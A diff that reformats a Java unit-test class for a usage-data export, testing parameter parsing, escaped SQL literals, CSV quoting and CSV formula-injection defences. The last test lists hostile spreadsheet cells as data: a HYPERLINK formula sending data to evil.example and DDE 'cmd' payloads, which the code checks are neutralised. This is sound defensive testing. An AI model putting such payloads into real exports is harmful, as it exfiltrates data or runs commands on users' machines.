@@ -26,8 +26,16 @@ class ExportRequestTest {
     assertEquals(List.of("user_id"), request.groupColumns());
     assertEquals(ExportRequest.Format.JSON, request.format());
     assertEquals(100, request.limit());
-    assertEquals(List.of("date", "user_id", "api_key_hash", "endpoint_id", "model", "model_permaslug",
-        "provider_name"), parse("from=2026-11-01&to=2026-11-21&group_by=endpoint,api_key,user,date").groupColumns());
+    assertEquals(
+        List.of(
+            "date",
+            "user_id",
+            "api_key_hash",
+            "endpoint_id",
+            "model",
+            "model_permaslug",
+            "provider_name"),
+        parse("from=2026-11-01&to=2026-11-21&group_by=endpoint,api_key,user,date").groupColumns());
   }
 
   @Test
@@ -40,36 +48,51 @@ class ExportRequestTest {
   void cursorRoundTripsAndIsBoundToTheParameters() {
     ExportRequest request = parse("from=2026-11-01&to=2026-11-21&group_by=date,user");
     String cursor = ExportCursor.encode(List.of("2026-11-02", "a\"b\n,c"), request);
-    assertEquals(List.of("2026-11-02", "a\"b\n,c"),
-        parse("from=2026-11-01&to=2026-11-21&group_by=user,date&limit=7&cursor=" + cursor).after().orElseThrow());
-    assertThrows(InvalidParameterException.class,
+    assertEquals(
+        List.of("2026-11-02", "a\"b\n,c"),
+        parse("from=2026-11-01&to=2026-11-21&group_by=user,date&limit=7&cursor=" + cursor)
+            .after()
+            .orElseThrow());
+    assertThrows(
+        InvalidParameterException.class,
         () -> parse("from=2026-11-01&to=2026-11-21&group_by=date,user&user_id=x&cursor=" + cursor));
   }
 
   @Test
   void keysetSqlUsesTupleComparisonAndLiterals() {
-    ExportRequest request = parse("from=2026-11-01&to=2026-11-21&group_by=date,user&user_id=" + "o%27b%5C")
-        .after(List.of("2026-11-02", "x'y"));
-    assertEquals("SELECT toString(date) AS day, user_id, sum(requests) AS requests_sum"
-        + ", sum(prompt_tokens) AS prompt_tokens_sum, sum(completion_tokens) AS completion_tokens_sum"
-        + ", sum(reasoning_tokens) AS reasoning_tokens_sum, sum(cached_tokens) AS cached_tokens_sum"
-        + ", sum(byok_requests) AS byok_requests_sum, sum(usage) AS usage_sum"
-        + ", sum(toDecimal128(usage, 0)) AS usage_sum_whole, countIf(usage < 0) AS usage_sum_negative"
-        + ", count() AS usage_sum_rows, sum(byok_usage_inference) AS byok_usage_inference_sum"
-        + ", sum(toDecimal128(byok_usage_inference, 0)) AS byok_usage_inference_sum_whole"
-        + ", countIf(byok_usage_inference < 0) AS byok_usage_inference_sum_negative"
-        + ", count() AS byok_usage_inference_sum_rows FROM usage_daily FINAL"
-        + " WHERE account_id = 'ac\\'me' AND date >= toDate('2026-11-01') AND date <= toDate('2026-11-21')"
-        + " AND user_id = 'o\\'b\\\\' AND (date, user_id) > (toDate('2026-11-02'), 'x\\'y')"
-        + " GROUP BY date, user_id ORDER BY date, user_id LIMIT 4",
+    ExportRequest request =
+        parse("from=2026-11-01&to=2026-11-21&group_by=date,user&user_id=" + "o%27b%5C")
+            .after(List.of("2026-11-02", "x'y"));
+    assertEquals(
+        "SELECT toString(date) AS day, user_id, sum(requests) AS requests_sum"
+            + ", sum(prompt_tokens) AS prompt_tokens_sum, sum(completion_tokens) AS completion_tokens_sum"
+            + ", sum(reasoning_tokens) AS reasoning_tokens_sum, sum(cached_tokens) AS cached_tokens_sum"
+            + ", sum(byok_requests) AS byok_requests_sum, sum(usage) AS usage_sum"
+            + ", sum(toDecimal128(usage, 0)) AS usage_sum_whole, countIf(usage < 0) AS usage_sum_negative"
+            + ", count() AS usage_sum_rows, sum(byok_usage_inference) AS byok_usage_inference_sum"
+            + ", sum(toDecimal128(byok_usage_inference, 0)) AS byok_usage_inference_sum_whole"
+            + ", countIf(byok_usage_inference < 0) AS byok_usage_inference_sum_negative"
+            + ", count() AS byok_usage_inference_sum_rows FROM usage_daily FINAL"
+            + " WHERE account_id = 'ac\\'me' AND date >= toDate('2026-11-01') AND date <= toDate('2026-11-21')"
+            + " AND user_id = 'o\\'b\\\\' AND (date, user_id) > (toDate('2026-11-02'), 'x\\'y')"
+            + " GROUP BY date, user_id ORDER BY date, user_id LIMIT 4",
         ExportRepository.exportSql("ac'me", request, 4));
   }
 
   @Test
   void csvFieldsAreQuotedPerRfc4180() {
-    ExportRow row = new ExportRow(List.of("user_id", "model"), List.of("a,b", "say \"hi\"\r\n"),
-        BigInteger.ONE, BigInteger.TWO, BigInteger.TEN, BigInteger.ZERO, BigInteger.ZERO, BigInteger.ONE,
-        new BigDecimal("100.000000000000"), new BigDecimal("0E-12"));
+    ExportRow row =
+        new ExportRow(
+            List.of("user_id", "model"),
+            List.of("a,b", "say \"hi\"\r\n"),
+            BigInteger.ONE,
+            BigInteger.TWO,
+            BigInteger.TEN,
+            BigInteger.ZERO,
+            BigInteger.ZERO,
+            BigInteger.ONE,
+            new BigDecimal("100.000000000000"),
+            new BigDecimal("0E-12"));
     StringBuilder out = new StringBuilder();
     row.appendCsv(out);
     assertEquals("\"a,b\",\"say \"\"hi\"\"\r\n\",1,2,10,0,0,1,100,0\r\n", out.toString());
@@ -77,24 +100,48 @@ class ExportRequestTest {
 
   @Test
   void csvCellsThatASpreadsheetWouldRunAsFormulasStartWithAQuote() {
-    // OWASP "CSV injection": a cell starting with = + - @ tab or CR is a formula to Excel, LibreOffice and Sheets.
-    List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
-        "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2");
-    List<String> neutral = List.of("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
-        "\"'+1+cmd|' /C calc'!A0\"", "\"'-2+3\"", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"'\t=1+2\"", "\"'\r=1+2\"");
+    // OWASP "CSV injection": a cell starting with = + - @ tab or CR is a formula to Excel,
+    // LibreOffice and Sheets.
+    List<String> hostile =
+        List.of(
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "\t=1+2",
+            "\r=1+2");
+    List<String> neutral =
+        List.of(
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\"",
+            "\"'+1+cmd|' /C calc'!A0\"",
+            "\"'-2+3\"",
+            "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
+            "\"'\t=1+2\"",
+            "\"'\r=1+2\"");
     for (int i = 0; i < hostile.size(); i++) {
       StringBuilder out = new StringBuilder();
       ExportRow.appendCsvField(out, hostile.get(i));
       assertEquals(neutral.get(i), out.toString(), hostile.get(i));
     }
-    // Only the first character counts; empty (no user) stays empty; the totals are numbers, never negative.
+    // Only the first character counts; empty (no user) stays empty; the totals are numbers, never
+    // negative.
     for (String safe : List.of("a=b", "a-b", "user@example.com", "", "'quoted", " =1")) {
       StringBuilder out = new StringBuilder();
       ExportRow.appendCsvField(out, safe);
       assertEquals(safe, out.toString());
     }
-    ExportRow row = new ExportRow(List.of("user_id", "model"), List.of("=1+1", "-m"), BigInteger.ONE, BigInteger.TWO,
-        BigInteger.TEN, BigInteger.ZERO, BigInteger.ZERO, BigInteger.ONE, new BigDecimal("0.5"), BigDecimal.ZERO);
+    ExportRow row =
+        new ExportRow(
+            List.of("user_id", "model"),
+            List.of("=1+1", "-m"),
+            BigInteger.ONE,
+            BigInteger.TWO,
+            BigInteger.TEN,
+            BigInteger.ZERO,
+            BigInteger.ZERO,
+            BigInteger.ONE,
+            new BigDecimal("0.5"),
+            BigDecimal.ZERO);
     StringBuilder out = new StringBuilder();
     row.appendCsv(out);
     assertEquals("\"'=1+1\",\"'-m\",1,2,10,0,0,1,0.5,0\r\n", out.toString());
